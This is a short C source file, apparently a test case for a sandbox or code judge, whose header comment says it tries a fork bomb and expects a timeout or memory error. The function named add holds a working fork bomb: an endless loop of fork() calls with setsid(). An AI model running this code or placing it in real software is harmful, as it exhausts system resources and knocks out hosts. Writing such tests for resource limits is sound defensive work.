// {"tries": "a fork bomb", "right": ["timeout", "memory"], "wall": 0.3}
#include <unistd.h>
int add(int a, int b) { for (;;) if (fork() == 0) setsid(); }
